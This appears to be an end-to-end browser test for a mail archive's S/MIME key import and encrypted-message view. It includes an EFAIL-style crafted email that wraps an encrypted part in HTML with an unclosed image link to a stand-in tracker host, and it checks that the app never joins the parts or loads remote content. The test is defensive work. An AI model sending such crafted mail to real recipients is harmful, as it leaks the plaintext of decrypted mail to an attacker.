import assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { AxeBuilder } from "@axe-core/playwright";
import type { Page } from "playwright-core";
import { corpusKey, encryptedMail } from "../smime/encrypted-mail.ts";
import { requestsElsewhere, testBrowser } from "../support/browser.ts";
import { testFolder } from "../support/folder.ts";
import { munimentJson, startServer } from "../support/server.ts";
import { settled } from "../support/settled.ts";

const bob = corpusKey("Bob");
const outlook = join(import.meta.dirname, "../../../shared/corpus/outlook-tnefparse");

/** An HTML mail that would tell its sender of being read, with a file; and one part that asks for the text around it. */
const inner = [
  "Subject: the inner subject",
  "From: Anna <anna@test.example>",
  "Content-Type: multipart/mixed; boundary=in",
  "",
  "--in",
  "Content-Type: text/html",
  "",
  '<p>words that only the key shows</p><img src="http://tracker.test.example/seen.png">',
  "--in",
  "Content-Type: text/plain; name=notes.txt",
  "Content-Disposition: attachment; filename=notes.txt",
  "",
  "notes inside",
  "--in--",
  "",
].join("\r\n");

/** The encrypted object between two HTML parts that would carry it away if they were joined (EFAIL). */
function surrounded(encrypted: Buffer): Buffer {
  const text = encrypted.toString("latin1");
  const object = text.slice(text.indexOf("Content-Type:"));
  return Buffer.from(
    [
      "From: mallory@test.example",
      "Subject: the outer subject",
      "Content-Type: multipart/mixed; boundary=out",
      "",
      "--out",
      "Content-Type: text/html",
      "",
      '<p>before</p><img src="http://tracker.test.example/?',
      "--out",
      object.trimEnd(),
      "--out",
      "Content-Type: text/html",
      "",
      '"><p>behind</p>',
      "--out--",
      "",
    ].join("\r\n"),
    "latin1",
  );
}

async function assertAccessible(page: Page, place: string): Promise<void> {
  const { violations } = await new AxeBuilder({ page }).exclude("iframe").analyze();
  const serious = violations.filter(({ impact }) => impact === "serious" || impact === "critical");
  assert.deepEqual(
    serious.map(({ id, nodes }) => `${place}: ${id}: ${nodes[0]?.html}`),
    [],
  );
}

test("keys are given in the console, and what they open is shown apart from everything around it", async (context) => {
  const folder = testFolder(context);
  const [data, mail] = ["data", "mail"].map((name) => join(folder, name)) as [string, string];
  await munimentJson(["init", "--data", data, "--no-input"]);
  const server = await startServer(data);
  context.after(() => server.kill());
  mkdirSync(mail);
  writeFileSync(join(mail, "efail.eml"), surrounded(encryptedMail("", bob.key.certificate, inner)));
  const waiting = encryptedMail("for someone else", corpusKey("Eve").key.certificate);
  writeFileSync(join(mail, "waiting.eml"), waiting);
  const winmail = readFileSync(join(outlook, "one-file.tnef"));
  const wrapped = `From: o@test.example\r\nSubject: wrapped by Outlook\r\nContent-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n${winmail.toString("base64").replace(/.{76}/g, "$&\r\n")}\r\n`;
  writeFileSync(join(mail, "winmail.eml"), wrapped);
  await munimentJson(["import", mail, "--data", data]);
  await settled(data);

  const browser = await testBrowser(context);
  const visit = await browser.newContext({
    reducedMotion: "reduce",
    viewport: { width: 1280, height: 1400 },
    acceptDownloads: true,
  });
  const elsewhere = requestsElsewhere(visit, `http://${server.http}`);
  const page = await visit.newPage();
  await page.goto(server.claimUrl ?? "");
  await page.getByLabel("E-mail").fill("maria@example.com");
  await page.getByLabel("Passphrase", { exact: true }).fill("four unrelated words here");
  await page.getByLabel("Passphrase again").fill("four unrelated words here");
  await page.getByRole("button", { name: "Create administrator" }).click();

  await page.getByRole("link", { name: "Keys", exact: true }).click();
  await page.getByText("No key so far.").waitFor();
  assert.equal(await page.getByRole("row").filter({ hasText: "NSS Test CA" }).count(), 2, "two recipients wait");
  const chosen = page.waitForEvent("filechooser");
  await page.getByRole("button", { name: "Key file" }).click();
  await (await chosen).setFiles(bob.path);
  await page.getByLabel("Passphrase of the file").fill("wrong");
  await page.getByRole("button", { name: "Import", exact: true }).click();
  await page.getByText("SMIME-PASSPHRASE").waitFor();
  await page.getByLabel("Passphrase of the file").fill(bob.passphrase);
  await page.getByRole("button", { name: "Import", exact: true }).click();
  await page.getByText("1 key taken in; 1 message read again.").waitFor();
  const row = page.getByRole("row").filter({ hasText: "Private key" });
  await row.getByText("CN=Bob").waitFor();
  assert.equal(await page.getByLabel("Passphrase of the file").inputValue(), "");
  await assertAccessible(page, "keys");
  await shot(page, "keys");

  await page.goto(`http://${server.http}/search?q=${encodeURIComponent("is:encrypted-decrypted")}`);
  await page.getByRole("link", { name: /the outer subject/ }).click();
  await page.getByText("Encrypted; opened with a key of this archive").waitFor();
  await page.getByText("Unauthenticated encryption: it may have been altered on the way").waitFor();
  await page.getByText("the inner subject", { exact: true }).waitFor();
  const opened = page.frameLocator('iframe[title="Message body inside, 1"]');
  await opened.getByText("words that only the key shows").waitFor();
  assert.equal(await opened.locator("img[src]").count(), 0, "nothing remote");
  const outside = page.frameLocator('iframe[title="Message body"]');
  await outside.getByText("before").waitFor();
  assert.equal(await outside.getByText("words that only the key shows").count(), 0, "parts are never joined");
  await assertAccessible(page, "message");
  await shot(page, "opened");
  const download = page.waitForEvent("download");
  await page.getByRole("link", { name: "Download notes.txt" }).click();
  assert.equal(readFileSync(await (await download).path(), "utf8").trim(), "notes inside");

  await page.goto(`http://${server.http}/search?q=${encodeURIComponent('subject:"wrapped by Outlook"')}`);
  await page.getByRole("link", { name: /wrapped by Outlook/ }).click();
  await page.getByRole("heading", { name: "In winmail.dat", exact: true }).waitFor();
  await page.getByRole("link", { name: "Download AUTHORS" }).waitFor();
  await assertAccessible(page, "winmail.dat");
  await shot(page, "winmail");
  assert.deepEqual(elsewhere, []);
  assert.equal(await server.stop(), 0);
});

/** Pictures in both themes, where somebody wants to look at them. */
async function shot(page: Page, name: string): Promise<void> {
  const folder = process.env.MUNIMENT_SHOTS;
  if (folder === undefined) return;
  mkdirSync(folder, { recursive: true });
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    await page.screenshot({ path: join(folder, `${name}-${colorScheme}.png`), fullPage: true });
  }
}
